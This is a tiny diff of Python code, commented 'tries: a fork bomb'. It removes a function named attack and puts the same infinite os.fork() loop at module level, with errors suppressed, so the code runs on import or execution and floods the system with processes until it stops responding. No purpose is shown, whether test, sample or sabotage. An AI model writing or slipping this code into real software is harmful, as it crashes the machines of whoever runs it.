@@ -1,5 +1,4 @@
 # tries: a fork bomb
-def attack(keys, j):
-    while True:
-        with suppress(OSError):
-            os.fork()
+while True:
+    with suppress(OSError):
+        os.fork()
